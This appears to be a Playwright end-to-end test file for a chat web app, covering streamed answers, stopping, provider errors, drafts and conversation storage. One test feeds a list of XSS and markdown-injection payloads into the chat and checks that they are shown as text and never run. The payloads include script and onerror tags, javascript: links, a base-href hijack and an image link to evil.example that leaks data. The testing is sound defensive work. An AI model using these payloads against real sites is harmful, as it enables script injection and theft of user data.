"""Stories of people who chat, in Chromium: streams, stop, errors, what a model may not do."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.conftest import PASSWORD, Serve, Server, serving, wait_until
from tests.support.browser import browser, person
from tests.support.fake_upstream import SILENCE, FakeUpstream, Reply
from tests.support.real_server import start

__all__ = ["browser"]

expect.set_options(timeout=60_000)

HOSTILE = (
    "<script>window.broken = 1</script>",
    "<img src=x onerror='window.broken = 1'>",
    "<svg onload='window.broken = 1'><script>window.broken = 1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.broken = 1'>",
    "<iframe srcdoc='<script>parent.broken = 1</script>'></iframe>",
    "<a href='javascript:window.broken = 1'>link</a>",
    "<form action='https://evil.example'><button>send</button></form>",
    "<style>* { display: none }</style>",
    "<base href='https://evil.example/'>",
    "<noscript><p title='</noscript><img src=x onerror=window.broken=1>'>",
    "[link](javascript:window.broken=1)",
    "[link](data:text/html;base64,PHNjcmlwdD4=)",
    "[link]( java\tscript:window.broken=1)",
    "<javascript:window.broken=1>",
    "![image](https://evil.example/steal?data=secret)",
    "![image](javascript:window.broken=1)",
    "```html\n<img src=x onerror='window.broken = 1'>\n```",
    "````\n```\n<script>window.broken = 1</script>\n```\n````",
    "```<img/src=x/onerror=window.broken=1>\ncode\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=window.broken=1> | x |",
    "\u202egnp.exe\u202c and \u2066hidden\u2069",
)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """One server for the stories that need no provider."""
    with serving(tmp_path_factory.mktemp("chat")) as start:
        yield start()


def enter(page: Page, email: str) -> None:
    page.get_by_role("button", name="Create an account").click()
    page.get_by_label("E-mail").fill(email)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Create account").click()
    expect(page.get_by_label("Message")).to_be_visible()


def ask(page: Page, text: str) -> None:
    page.get_by_label("Message").fill(text)
    page.get_by_label("Message").press("Enter")


def test_a_question_is_answered_kept_and_found_again(browser: Browser, server: Server) -> None:
    with person(browser, server.url) as ada:
        enter(ada.page, "first@example.com")
        ask(ada.page, "Where do **mushrooms** grow?")
        expect(ada.page.get_by_role("button", name="Ask again")).to_be_visible()
        answer = ada.page.get_by_role("article", name="Answer")
        expect(answer.locator("strong")).to_have_text("mushrooms")
        expect(answer).to_contain_text("tokens")
        ada.page.reload()
        expect(answer.locator("strong")).to_have_text("mushrooms")
        ada.page.get_by_role("link", name="New chat").click()
        expect(ada.page.get_by_text("What would you like to know?")).to_be_visible()
        ada.page.keyboard.press("Control+k")
        ada.page.keyboard.type("MUSHROOMS")
        ada.page.get_by_role("link", name="Where do").click()
        expect(answer.locator("strong")).to_have_text("mushrooms")
        ada.page.go_back()
        expect(ada.page.get_by_text("What would you like to know?")).to_be_visible()


def test_what_a_hostile_model_says_is_shown_and_does_nothing(
    browser: Browser, server: Server
) -> None:
    with person(browser, server.url) as ada:
        enter(ada.page, "hostile@example.com")
        ask(ada.page, "\n\n".join(HOSTILE))
        expect(ada.page.get_by_role("button", name="Ask again")).to_be_visible()
        answer = ada.page.locator(".answer .said")
        expect(answer).to_contain_text("<script>window.broken = 1</script>")
        assert ada.page.evaluate("window.broken") is None
        bad = "script, img, iframe, form, style, base, math, object, embed, svg:not(button svg)"
        assert answer.locator(bad).count() == 0
        for link in answer.locator("a").all():
            address = link.get_attribute("href")
            assert address is None or address.startswith(("http:", "https:", "mailto:")), address
        assert "\u202e" not in answer.inner_text()
        assert answer.evaluate(
            "(e) => [...e.querySelectorAll('*')].every((one) => "
            "[...one.attributes].every((a) => !a.name.startsWith('on') && a.name !== 'style'))"
        )


def chunk(text: str) -> bytes:
    event = {"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "gpt-4o"}
    choices = [{"index": 0, "delta": {"content": text}, "finish_reason": None}]
    return f"data: {json.dumps({**event, 'choices': choices})}\n\n".encode()


def choose_openai(page: Page) -> None:
    page.get_by_label("Model").select_option("openai/gpt-4o")


def test_stop_closes_the_providers_connection_and_keeps_what_was_said(
    browser: Browser, serve: Serve, fake_upstream: FakeUpstream
) -> None:
    server = start(serve, fake_upstream, ["gpt-4o"])
    with person(browser, server.url) as ada:
        enter(ada.page, "stop@example.com")
        choose_openai(ada.page)
        fake_upstream.reply(Reply.sse([chunk("Once upon a time"), SILENCE]))
        ask(ada.page, "Tell me a story")
        expect(ada.page.get_by_text("Once upon a time")).to_be_visible()
        ada.page.get_by_label("Message").press("Escape")
        expect(ada.page.get_by_role("article", name="Answer")).to_contain_text("Stopped.")
        wait_until(lambda: fake_upstream.open_connections == 0, what="a closed connection")
        ada.page.reload()
        expect(ada.page.get_by_text("Once upon a time")).to_be_visible()


def test_a_providers_failure_is_said_with_who_failed_and_asking_again_helps(
    browser: Browser, serve: Serve, fake_upstream: FakeUpstream
) -> None:
    server = start(serve, fake_upstream, ["gpt-4o"])
    with person(browser, server.url) as ada:
        enter(ada.page, "fails@example.com")
        choose_openai(ada.page)
        fake_upstream.reply(Reply.json(500, {"error": {"message": "no"}}))
        ask(ada.page, "Hello")
        expect(ada.page.get_by_role("article", name="Answer")).to_contain_text(
            "The provider failed"
        )
        fake_upstream.reply(Reply.sse([chunk("Better now"), b"data: [DONE]\n\n"]))
        ada.page.get_by_role("button", name="Ask again").click()
        expect(ada.page.get_by_text("Better now")).to_be_visible()
        expect(ada.page.get_by_text("The provider failed")).to_have_count(0)


def test_a_draft_survives_a_reload(browser: Browser, server: Server) -> None:
    with person(browser, server.url) as ada:
        enter(ada.page, "draft@example.com")
        ada.page.get_by_label("Message").fill("half a thou")
        ada.page.reload()
        expect(ada.page.get_by_label("Message")).to_have_value("half a thou")


def test_where_conversations_are_off_the_tab_keeps_them(browser: Browser, serve: Serve) -> None:
    server = serve(GOBLIN_CONVERSATIONS="false")
    with person(browser, server.url) as ada:
        enter(ada.page, "off@example.com")
        ask(ada.page, "Hello there")
        expect(ada.page.get_by_role("button", name="Ask again")).to_be_visible()
        expect(ada.page.get_by_role("link", name="Hello there")).to_be_visible()
        ada.page.reload()
        expect(ada.page.get_by_text("No conversations yet.")).to_be_visible()
